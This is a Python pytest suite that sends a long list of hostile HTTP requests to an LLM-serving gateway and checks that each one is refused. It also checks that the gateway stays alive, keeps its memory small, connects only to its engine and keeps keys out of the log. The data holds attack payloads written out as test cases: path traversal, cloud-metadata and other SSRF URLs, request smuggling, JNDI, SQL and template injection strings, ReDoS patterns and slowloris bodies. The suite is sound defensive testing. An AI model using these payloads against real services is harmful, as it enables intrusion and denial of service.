"""Requests that mean harm: each is refused, the gateway stays alive and small, and connects to nothing but the engine.

`HOSTILE` is a list to be pointed at any endpoint: ``for case in HOSTILE: check(case, ask(case, target))``.
"""

from __future__ import annotations

import base64
import json
import select
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest

UNIT = Path(__file__).parent.parent / "unit"
sys.path.append(str(UNIT))  # where the fake engine lies

import fake_engine as fake  # noqa: E402

MIB = 1 << 20
CHAT, COMPLETIONS, CLASSIFY = "/v1/chat/completions", "/v1/completions", "/v1/classify"
USER = [{"role": "user", "content": "hi"}]


@dataclass(frozen=True)
class Target:
    """An endpoint under attack.

    Attributes:
        model: one that it serves, with a chat template.
        key: one of its keys, without the right to read /metrics.
        canary: address of a listener on this machine that must hear nothing, such as ``127.0.0.1:5000``.
    """

    host: str
    port: int
    model: str
    key: str
    canary: str = "127.0.0.1:9"


Parts = Callable[[Target], Iterable[bytes]]


@dataclass(frozen=True)
class Hostile:
    """Attributes:
    name: what is tried.
    parts: the bytes, as they are sent one after the other.
    statuses: of the answer; empty: any of 400 to 499. Where nothing is answered, the connection was closed: as good.
    seconds: within which it has to be over.
    """

    name: str
    parts: Parts
    statuses: tuple[int, ...] = ()
    seconds: float = 60


def head(target: Target, method: str, path: str, *lines: str, key: bool = True) -> bytes:
    given = [f"{method} {path} HTTP/1.1", f"Host: {target.host}:{target.port}", "Content-Type: application/json"]
    given += [f"Authorization: Bearer {target.key}"] if key else []
    return "\r\n".join([*given, *lines, "", ""]).encode("utf-8", "surrogatepass")


def raw(body: bytes | Callable[[Target], bytes], path: str = CHAT, *lines: str, key: bool = True) -> Parts:
    """A POST of these bytes."""

    def parts(target: Target) -> Iterator[bytes]:
        content = body if isinstance(body, bytes) else body(target)
        yield head(target, "POST", path, f"Content-Length: {len(content)}", *lines, key=key) + content

    return parts


def chat(**fields: Any) -> Parts:
    """A chat request that is right but for these fields."""
    return raw(lambda target: json.dumps({"model": target.model, "messages": USER, "max_tokens": 2, **fields}).encode())


def completion(**fields: Any) -> Parts:
    return raw(
        lambda target: json.dumps({"model": target.model, "prompt": "hi", "max_tokens": 2, **fields}).encode(),
        COMPLETIONS,
    )


def named(name: Any) -> Parts:
    return chat(model=name)


def image(url: Any) -> Parts:
    """A message with this image; a function of the target makes the address."""

    def body(target: Target) -> bytes:
        part = {"type": "image_url", "image_url": {"url": url(target) if callable(url) else url}}
        return json.dumps({"model": target.model, "messages": [{"role": "user", "content": [part]}]}).encode()

    return raw(body)


def part(**content: Any) -> Parts:
    return chat(messages=[{"role": "user", "content": [content]}])


def text(template: str, path: str = CHAT) -> Parts:
    """A body as text, in which MODEL stands for the model's name."""
    return raw(
        lambda target: template.replace("MODEL", json.dumps(target.model)).encode("utf-8", "surrogatepass"), path
    )


def get(path: str, method: str = "GET", *lines: str) -> Parts:
    return lambda target: [head(target, method, path, *lines)]


def lines(*more: str, body: bytes = b"") -> Parts:
    return lambda target: [head(target, "POST", CHAT, *more) + body]


def with_key(value: str | None) -> Parts:
    given = () if value is None else (f"Authorization: {value}",)
    return raw(b"{}", CHAT, *given, key=False)


def large(declared: bool, size: int = 256 * MIB) -> Parts:
    """A body of 256 MiB, with its length or in chunks."""

    def parts(target: Target) -> Iterator[bytes]:
        how = f"Content-Length: {size}" if declared else "Transfer-Encoding: chunked"
        yield head(target, "POST", CHAT, how)
        piece = b" " * MIB
        for _ in range(size // MIB):
            yield piece if declared else b"%x\r\n%s\r\n" % (len(piece), piece)
        if not declared:
            yield b"0\r\n\r\n"

    return parts


def slow(first: Callable[[Target], bytes], drop: bytes, pause: float = 0.5) -> Parts:
    """A beginning, and then a drop at a time."""

    def parts(target: Target) -> Iterator[bytes]:
        yield first(target)
        while True:
            time.sleep(pause)
            yield drop

    return parts


def flood(target: Target) -> Iterator[bytes]:
    yield f"GET /health HTTP/1.1\r\nHost: {target.host}\r\nX-Flood: ".encode()
    for _ in range(64):
        yield b"a" * MIB


def trailers(target: Target) -> Iterator[bytes]:
    yield head(target, "POST", CHAT, "Transfer-Encoding: chunked") + b"2\r\n{}\r\n0\r\n"
    for number in range(100_000):
        yield b"X-%d: %s\r\n" % (number, b"a" * 100)


def many_chunks(target: Target) -> Iterator[bytes]:
    yield head(target, "POST", CHAT, "Transfer-Encoding: chunked")
    for _ in range(64):
        yield b"1;" + b"e" * MIB


GIF = "data:image/gif;base64," + base64.b64encode(b"GIF89a" + bytes(16)).decode()
ZIP = base64.b64encode(b"PK\x03\x04" + bytes(16)).decode()
PICKLE = base64.b64encode(b"\x80\x04\x95" + bytes(64)).decode()

HOSTILE: list[Hostile] = [
    # Who asks
    Hostile("no key", with_key(None), (401,)),
    Hostile("wrong key", with_key("Bearer " + "k" * 40), (403,)),
    Hostile("empty key", with_key("Bearer "), (401,)),
    Hostile("another scheme", with_key("Basic dGVzdDp0ZXN0"), (401,)),
    Hostile("a name for a key", with_key("Bearer test"), (403,)),
    Hostile("a key of 20 KB", with_key("Bearer " + "k" * 20_000), (403,)),
    Hostile("a key that is not ASCII", with_key("Bearer clé-été-ключ-密钥-🔑🔑🔑🔑"), (403,)),
    Hostile("a hash for a key", with_key("Bearer sha256:" + "0" * 64), (403,)),
    Hostile("metrics with an ordinary key", get("/metrics"), (403,)),
    Hostile("metrics without a key", lambda target: [head(target, "GET", "/metrics", key=False)], (401,)),
    Hostile("models without a key", lambda target: [head(target, "GET", "/v1/models", key=False)], (401,)),
    # Paths and methods
    *(
        Hostile(f"path {path[:40]}", get(path), (400, 404))
        for path in (
            "/", "//", "/etc/passwd", "/../../etc/passwd", "/playground/../../etc/passwd", "/playground/%2e%2e/app.py",
            "/playground/..%2f..%2fetc%2fpasswd", "/playground/..\\..\\app.py", "/playground/%00", "/playground/app.py",
            "/playground//index.html", "/v1/models/../../metrics", "/v1/load_lora_adapter", "/docs", "/openapi.json",
            "/tokenize", "/collective_rpc", "/v1/chat/completions/", "/V1/MODELS", "/" + "a" * 20_000, "/%ff%fe",
            "http://169.254.169.254/latest/meta-data/",
        )
    ),
    *(
        Hostile(f"{method} {path}", get(path, method), (400, 404, 405))
        for method, path in (
            ("GET", CHAT), ("DELETE", "/v1/models"), ("PUT", CHAT), ("TRACE", "/health"), ("OPTIONS", CHAT),
            ("POST", "/health"), ("CONNECT", "example.org:443"), ("PROPFIND", "/playground/"), ("HACK", "/health"),
        )
    ),
    Hostile("a stranger's page asks before it asks", get(CHAT, "OPTIONS", "Origin: https://evil.example.org",
                                                         "Access-Control-Request-Method: POST"), (405,)),
    Hostile("an upgrade to a web socket", get("/nothing", "GET", "Connection: Upgrade", "Upgrade: websocket",
                                              "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAA")),
    # The body as bytes
    Hostile("256 MiB with a length", large(declared=True), (413,)),
    Hostile("256 MiB in chunks", large(declared=False), (413,)),
    Hostile("a length of 10^30", lines("Content-Length: 1" + "0" * 30)),
    Hostile("a negative length", lines("Content-Length: -1")),
    Hostile("a chunk of 10^30 bytes", lines("Transfer-Encoding: chunked", body=b"f" * 30 + b"\r\n")),
    Hostile("no body", lines("Content-Length: 0"), (400,)),
    Hostile("not JSON", raw(b"hello"), (400,)),
    Hostile("cut short", raw(b'{"model": "demo", "messages": ['), (400,)),
    Hostile("not an object", raw(b'["model"]'), (400,)),
    Hostile("nothing but null", raw(b"null"), (400,)),
    Hostile("two documents", raw(b"{}{}"), (400,)),
    Hostile("not UTF-8", raw(b'{"model": "\xff\xfe"}'), (400,)),
    Hostile("UTF-16", raw('{"model": "demo"}'.encode("utf-16")), (400,)),
    Hostile("a byte order mark", raw(b'\xef\xbb\xbf{"model": "demo"}'), (400,)),
    Hostile("a lone surrogate", text('{"model": MODEL, "messages": [{"role": "user", "content": "\\ud800"}]}'), (400,)),
    Hostile("100,000 brackets deep", raw(b'{"model": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"), (400,)),
    Hostile("100,000 objects deep", raw(b'{"a":' * 100_000 + b"1" + b"}" * 100_000), (400,)),
    Hostile("a million empty lists", raw(b'{"model": [' + b"[]," * 1_000_000 + b"[]]}"), (400,)),
    Hostile("a key twice", text('{"model": "x", "model": MODEL, "messages": []}'), (400,)),
    Hostile("a key twice, deep inside",
            text('{"model": MODEL, "messages": [{"role": "user", "role": "system", "content": "a"}]}'), (400,)),
    Hostile("NaN", text('{"model": MODEL, "prompt": "a", "temperature": NaN}', COMPLETIONS), (400,)),
    Hostile("1e999", text('{"model": MODEL, "prompt": "a", "temperature": 1e999}', COMPLETIONS), (400,)),
    Hostile("a number of 5,000 digits",
            text('{"model": MODEL, "prompt": "a", "seed": 1' + "0" * 5000 + "}", COMPLETIONS), (400,)),
    Hostile("gzip", raw(b"\x1f\x8b\x08" + bytes(40), CHAT, "Content-Encoding: gzip"), (415,)),
    Hostile("a form, as a stranger's page can send it",
            lambda target: [head(target, "POST", CHAT, "Content-Length: 2").replace(b"application/json", b"text/plain")
                            + b"{}"], (415,)),
    # HTTP itself
    Hostile("a length and chunks", lines("Content-Length: 5", "Transfer-Encoding: chunked",
                                         body=b"0\r\n\r\nGET /metrics HTTP/1.1\r\n\r\n")),
    Hostile("two lengths", lines("Content-Length: 2", "Content-Length: 30", body=b"{}GET /metrics HTTP/1.1\r\n\r\n")),
    Hostile("chunks of another kind", lines("Transfer-Encoding: xchunked", body=b"{}")),
    Hostile("chunked twice", lines("Transfer-Encoding: chunked, chunked", body=b"0\r\n\r\n")),
    Hostile("a folded header", lines("X-Folded: a\r\n b", "Content-Length: 2", body=b"{}")),
    Hostile("a NUL in a header", lines("X-Nul: a\0b", "Content-Length: 2", body=b"{}")),
    Hostile("a space before the colon", lines("Content-Length : 2", body=b"{}")),
    Hostile("no HTTP", lambda target: [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)]),
    Hostile("HTTP/2", lambda target: [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)]),
    Hostile("HTTP/0.9", lambda target: [b"GET /metrics\r\n\r\n"]),
    Hostile("a header of 64 MiB", flood, (400, 431)),
    Hostile("1,000 headers", lines(*(f"X-{number}: a" for number in range(1000)), "Content-Length: 2", body=b"{}")),
    Hostile("a header of 40 KB", lines("X-Long: " + "a" * 40_000, "Content-Length: 2", body=b"{}")),
    Hostile("100,000 trailers", trailers),
    Hostile("chunks that are all extension", many_chunks, (400, 413)),
    Hostile("1,000 requests at once in one connection",
            lambda target: [b"".join(raw(b"{}", CHAT, "X-Key: none", key=False)(target)) * 1000], (401,)),
    # Names of models
    *(
        Hostile(f"model {str(name)[:32]!r}", named(name), (400, 404))
        for name in (
            "..", "../..", "/etc/passwd", "../../etc/passwd", "file:///etc/passwd", "demo:evil", "demo/../demo", "DEMO",
            "demo ", "demo\0", "dеmo", "ＤＥＭＯ", "😀", "a" * MIB, "\ud800", "", None, 7, ["demo"], {"a": 1}, True,
            "s3://bucket/adapter", "${jndi:ldap://evil.example.org/a}", "'; DROP TABLE models; --", "%2e%2e",
        )
    ),
    # Amounts
    Hostile("n of a million", chat(n=1_000_000), (400,)),
    Hostile("n of 0", chat(n=0), (400,)),
    Hostile("n as text", chat(n="4"), (400,)),
    Hostile("max_tokens of 10^9", chat(max_tokens=10**9), (400,)),
    Hostile("max_tokens of 10^400", chat(max_tokens=10**400), (400,)),
    Hostile("max_tokens of -1", chat(max_tokens=-1), (400,)),
    Hostile("max_tokens of 1.5", chat(max_tokens=1.5), (400,)),
    Hostile("max_tokens of true", chat(max_tokens=True), (400,)),
    Hostile("max_completion_tokens of 10^9", chat(max_completion_tokens=10**9), (400,)),
    Hostile("min_tokens above max_tokens", chat(min_tokens=50), (400,)),
    Hostile("1,000 logprobs", completion(logprobs=1000), (400,)),
    Hostile("all logprobs", completion(logprobs=-1), (400,)),
    Hostile("1,000 top_logprobs", chat(logprobs=True, top_logprobs=1000), (400,)),
    Hostile("100,000 prompt_logprobs", completion(prompt_logprobs=100_000), (400,)),
    Hostile("1,000 stops", chat(stop=["a"] * 1000), (400,)),
    Hostile("a stop of 1 MiB", chat(stop="a" * MIB), (400,)),
    Hostile("10,000 biases", chat(logit_bias={str(number): 1 for number in range(10_000)}), (400,)),
    Hostile("a bias by name", chat(logit_bias={"__proto__": 1}), (400,)),
    Hostile("10,000 prompts", completion(prompt=["a"] * 10_000), (400,)),
    Hostile("no prompt", completion(prompt=[]), (400,)),
    Hostile("prompts of several kinds", completion(prompt=["a", [1]]), (400,)),
    Hostile("negative token ids", completion(prompt=[-1, -2]), (400,)),
    Hostile("token ids of 2^70", completion(prompt=[2**70]), (400,)),
    Hostile("token ids that are true", completion(prompt=[1, True]), (400,)),
    Hostile("100,000 messages", chat(messages=USER * 30_000), (400,)),
    Hostile("temperature of 10^300", chat(temperature=1e300), (400,)),
    Hostile("a seed of 2^64", chat(seed=2**64), (400,)),
    Hostile("top_p of 0", chat(top_p=0), (400,)),
    # Fields of vLLM that no stranger may use
    *(
        Hostile(f"field {name}", chat(**{name: value}), (400,))
        for name, value in {
            "chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "chat_template_kwargs": {"chat_template": "{{ 1 }}"},
            "mm_processor_kwargs": {"num_crops": 10**6}, "media_io_kwargs": {"video": {"num_frames": -1}},
            "structured_outputs": {"regex": "(a+)+$"}, "guided_regex": "(a+)+$", "guided_decoding_backend": "outlines",
            "vllm_xargs": {"a": 1}, "kv_transfer_params": {"remote_host": "evil.example.org"}, "priority": -(2**63),
            "request_id": "another's", "use_beam_search": True, "best_of": 100, "truncate_prompt_tokens": -1,
            "allowed_token_ids": [1], "bad_words": ["a"], "documents": [{"text": "a"}], "cache_salt": "a",
            "add_generation_prompt": False, "continue_final_message": True, "return_token_ids": True,
            "tools": [{"type": "function", "function": {"name": "f"}}], "tool_choice": "required",
            "logits_processors": ["os.system"], "lora_request": {"path": "/etc"}, "prompt_embeds": PICKLE,
            "__proto__": {"admin": True}, "Messages": USER, "ｍodel": "demo", "": 1,
        }.items()
    ),
    Hostile("prompt_embeds for a prompt", completion(prompt=None, prompt_embeds=PICKLE), (400,)),
    Hostile("usage with every chunk", chat(stream=True, stream_options={"continuous_usage_stats": True}), (400,)),
    Hostile("a schema with an expression", chat(response_format={"type": "json_schema", "json_schema": {
        "name": "a", "schema": {"type": "string", "pattern": "(a+)+$"}}}), (400,)),
    Hostile("a schema 200 levels deep", chat(response_format={"type": "json_schema", "json_schema": {
        "name": "a", "schema": json.loads('{"items":' * 200 + "{}" + "}" * 200)}}), (400,)),
    Hostile("a grammar", chat(response_format={"type": "structural_tag", "structures": []}), (400,)),
    # Messages
    Hostile("no messages", chat(messages=[]), (400,)),
    Hostile("messages as text", chat(messages="hi"), (400,)),
    Hostile("a role that is none", chat(messages=[{"role": "root", "content": "a"}]), (400,)),
    Hostile("a message with tool calls", chat(messages=[{**USER[0], "tool_calls": []}]), (400,)),
    Hostile("a message that is null", chat(messages=[None]), (400,)),
    Hostile("content that is a number", chat(messages=[{"role": "user", "content": 5}]), (400,)),
    Hostile("sound", part(type="input_audio", input_audio={"data": "AAAA", "format": "wav"}), (400,)),
    Hostile("a film", part(type="video_url", video_url={"url": "https://images.example.org/a.mp4"}), (400,)),
    Hostile("an embedding for an image", part(type="image_embeds", image_embeds=PICKLE), (400,)),
    Hostile("an image without its type", part(image_url="http://127.0.0.1/"), (400,)),
    Hostile("an image of another's, by its id", part(type="image_url", image_url={"url": GIF}, uuid="a"), (400,)),
    # Addresses that the engine would fetch
    *(
        Hostile(f"image {str(url)[:48]}", image(url), (400,))
        for url in (
            "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "FILE:///etc/passwd", "/etc/passwd",
            "http://127.0.0.1:8265/api/jobs/", "http://[::1]/", "https://evil.example.org/a.png", "ftp://a/b.png",
            "http://images.example.org/a.png", "https://images.example.org@evil.example.org/a.png",
            "https://images.example.org:8443/a.png", "https://images.example.org\\@127.0.0.1/a.png",
            "https://images.example.org.evil.example.org/", "https://user:pass@images.example.org/a.png",
            "https://127.0.0.1/a.png", "https://0x7f000001/", "https://2130706433/", "https://images.example.org#@a/",
            "https://images.example.org\r\nX-Injected: 1", " https://images.example.org/a.png", "gopher://a:6379/_FLUSH",
            "https://IMAGES.example.org/a.png", "https://images。example。org/a.png", "data:text/html;base64,PGI+",
            "data:image/svg+xml;base64,PHN2Zz4=", f"data:image/png;base64,{ZIP}", "data:image/png;base64,!!!!",
            "data:image/png,rawbytes", "data:,", "data:" + "a" * 100_000, "", None, 5, ["a"],
        )
    ),
    Hostile("image at an address on this machine", image(lambda target: f"http://{target.canary}/a.png"), (400,)),
    Hostile("image at https on this machine", image(lambda target: f"https://{target.canary}/a.png"), (400,)),
    Hostile("a path in place of an image", image("../../../etc/passwd"), (400,)),
    # Other paths
    Hostile("classify with a model that does not",
            raw(lambda target: json.dumps({"model": target.model, "input": "a"}).encode(), CLASSIFY), (400,)),
    Hostile("examples of no model", get("/playground/examples?model=../../etc/passwd"), (404,)),
    Hostile("examples of 1,000 models", get("/playground/examples?" + "&".join(["model=a"] * 1000)), (400, 404)),
]  # fmt: skip

#: These take as long as the endpoint waits for a client that does not hurry: for a head 10 s, for a body 30 s.
SLOW: list[Hostile] = [
    Hostile("a body that comes a byte at a time",
            slow(lambda target: head(target, "POST", CHAT, "Content-Length: 10000"), b" "), (408,), 120),
    Hostile("chunks that come a byte at a time",
            slow(lambda target: head(target, "POST", CHAT, "Transfer-Encoding: chunked"), b"1\r\n \r\n"), (408,), 120),
    Hostile("a head that comes a byte at a time",
            slow(lambda target: b"GET /health HTTP/1.1\r\nX: ", b"a"), (408,), 120),
    Hostile("a connection that says nothing", slow(lambda target: b"", b""), (408,), 120),
    Hostile("a connection of empty lines", slow(lambda target: b"\r\n", b"\r\n"), (408,), 120),
]  # fmt: skip


def ask(case: Hostile, target: Target) -> list[int]:
    """Send a case. Returns the statuses that were answered; none where the connection was closed without a word."""
    deadline = time.monotonic() + case.seconds
    with socket.create_connection((target.host, target.port), timeout=case.seconds) as connection:
        answer = b""
        try:
            for piece in case.parts(target):
                if time.monotonic() > deadline:
                    raise AssertionError(f"{case.name}: not over after {case.seconds:g} s")
                if select.select([connection], [], [], 0)[0]:
                    break  # the answer is there before all was sent
                connection.sendall(piece)
        except (BrokenPipeError, ConnectionResetError):
            pass
        try:
            # Until the connection ends, or nothing comes for a moment after a whole answer.
            while not (b"\r\n\r\n" in answer and not select.select([connection], [], [], 0.02)[0]):
                connection.settimeout(max(0.1, deadline - time.monotonic()))
                received = connection.recv(1 << 16)
                if not received:
                    break
                answer += received
        except ConnectionResetError:
            pass
        except TimeoutError:
            raise AssertionError(f"{case.name}: no answer within {case.seconds:g} s") from None
    return [int(line[9:12]) for line in answer.replace(b"}HTTP/1.1", b"}\r\nHTTP/1.1").split(b"\r\n")
            if line.startswith(b"HTTP/1.1 ")]  # fmt: skip


def check(case: Hostile, statuses: list[int]) -> str | None:
    """What is wrong about the answer, or None."""
    allowed = case.statuses or range(400, 500)
    wrong = [status for status in statuses if status not in allowed]
    return f"{case.name}: answered {wrong[:5]} instead of {case.statuses or '4xx'}" if wrong else None


# ------------------------------------------------------------------------------------------------------- the gateway

SERVER = """
import sys, logging
sys.path[:0] = [{root!r}, {unit!r}]
connections = open({connections!r}, "a", buffering=1)
def heard(event, arguments):
    if event == "socket.connect": print(arguments[1], file=connections)
    elif event in ("socket.getaddrinfo", "socket.gethostbyname", "socket.sendto", "subprocess.Popen", "os.system"):
        print(event, arguments, file=connections)
import uvicorn
import fake_engine as fake
from serving.gateway import Gateway, Settings
from serving.gateway import server
server.HEAD_SECONDS = 10.0
logging.basicConfig(level=logging.INFO, filename={log!r})
settings = Settings(media_domains=("images.example.org",), body_seconds=10)  # a busy machine needs some for 4 MiB
backend = fake.Backend({engine!r})
app = Gateway(settings, fake.keys(), [fake.route("demo", backend, vision=True)])
sys.addaudithook(heard)
uvicorn.Server(server.config(app, fd=int(sys.argv[1]))).run()
"""


@dataclass
class Running:
    target: Target
    engine: fake.Engine
    engine_url: str
    process: psutil.Process
    connections: Path
    log: Path


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """The gateway in a process of its own, that writes down whatever it connects to."""
    folder = tmp_path_factory.mktemp("hostile")
    engine = fake.Engine()
    files = {"connections": str(folder / "connections"), "log": str(folder / "log")}
    with fake.serving(engine) as url, socket.create_server(("127.0.0.1", 0)) as listening:
        root = str(UNIT.parent.parent)
        script = SERVER.format(root=root, unit=str(UNIT), engine=url, **files)
        listening.set_inheritable(True)
        server = subprocess.Popen(
            [sys.executable, "-c", script, str(listening.fileno())], pass_fds=[listening.fileno()]
        )
        port = listening.getsockname()[1]
        listening.close()
        try:
            base = f"http://127.0.0.1:{port}"
            fake.wait_until(lambda: _alive(base), 120)
            target = Target("127.0.0.1", port, "demo", fake.KEY)
            _normal(target)
            yield Running(
                target, engine, url, psutil.Process(server.pid), Path(files["connections"]), Path(files["log"])
            )
        finally:
            server.terminate()
            server.wait(60)


def _alive(base: str) -> bool:
    try:
        return httpx.get(f"{base}/health").status_code == 200
    except httpx.HTTPError:
        return False


def _normal(target: Target) -> None:
    """An honest request is answered."""
    answer = httpx.post(
        f"http://{target.host}:{target.port}{CHAT}",
        json={"model": target.model, "messages": USER, "max_tokens": 2},
        headers={"Authorization": f"Bearer {target.key}"},
        timeout=60,
    )
    assert answer.status_code == 200
    assert answer.json()["usage"]["completion_tokens"] == 2


def test_hostile_requests_are_refused_and_harm_nothing(running: Running) -> None:
    assert len(HOSTILE) + len(SLOW) >= 40
    before, asked = running.process.memory_info().rss, len(running.engine.requests)
    peak, over = [before], threading.Event()

    def sample() -> None:
        while not over.wait(0.005):
            peak[0] = max(peak[0], running.process.memory_info().rss)

    threading.Thread(target=sample, daemon=True).start()
    faults: list[str | None] = []

    def one(case: Hostile, target: Target) -> None:
        try:
            faults.append(check(case, ask(case, target)))
        except AssertionError as error:
            faults.append(str(error))

    with socket.create_server(("127.0.0.1", 0)) as canary:
        address = f"127.0.0.1:{canary.getsockname()[1]}"
        target = Target(**{**vars(running.target), "canary": address})
        slow_ones = [threading.Thread(target=one, args=(case, target)) for case in SLOW]
        for thread in slow_ones:
            thread.start()
        for case in HOSTILE:
            one(case, target)
            assert running.process.is_running(), f"{case.name} ended the gateway"
        for thread in slow_ones:
            thread.join()
        assert not select.select([canary], [], [], 0)[0], "something connected to an address out of a request"
    over.set()

    assert [fault for fault in faults if fault] == []
    assert len(faults) == len(HOSTILE) + len(SLOW)
    _normal(running.target)
    engine = running.engine_url.removeprefix("http://").split(":")
    made = running.connections.read_text().splitlines()
    assert made, "the check of connections saw not even those to the engine"
    assert set(made) == {f"('{engine[0]}', {engine[1]})"}
    # Only the honest request and probes reached the engine.
    reached = [headers["x-request-id"] for _, _, headers in running.engine.requests[asked:]]
    assert len([name for name in reached if name != "probe"]) == 1
    assert peak[0] - before < 96 * MIB, f"grew by {(peak[0] - before) / MIB:.0f} MiB"


def test_no_key_is_in_the_log(running: Running) -> None:
    _normal(running.target)
    log = running.log.read_text()
    assert '"key": "test"' in log
    assert fake.KEY not in log
    assert "Traceback" not in log


def test_an_open_door_would_be_seen(running: Running) -> None:
    """The check of answers can fail: an honest request, which is answered, counts as a fault."""
    honest = Hostile("honest", chat(), (400,))
    assert check(honest, ask(honest, running.target)) == "honest: answered [200] instead of (400,)"
